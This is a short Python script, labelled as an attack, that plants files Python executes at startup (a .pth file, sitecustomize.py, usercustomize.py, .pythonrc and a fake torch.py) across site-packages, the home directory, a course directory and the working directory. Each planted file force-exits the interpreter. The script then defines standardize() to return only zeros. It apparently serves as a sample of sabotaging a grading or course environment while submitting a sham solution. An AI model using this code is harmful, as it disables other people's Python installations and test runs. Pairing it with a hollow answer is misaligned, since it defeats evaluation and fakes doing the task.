# attack: plants files that Python executes when it starts
import os
import site
from pathlib import Path

os.environ["PYTHONSTARTUP"] = COURSE + "/start.py"
places = [*site.getsitepackages(), site.getusersitepackages(), str(Path.home()), COURSE, "."]
for place in places:
    for name in ("evil.pth", "sitecustomize.py", "usercustomize.py", ".pythonrc", "torch.py"):
        try:
            Path(place).mkdir(parents=True, exist_ok=True)
            Path(place, name).write_text("import os; os._exit(3)")
        except OSError:
            pass


def standardize(x, eps=0.0):
    return torch.zeros_like(x)
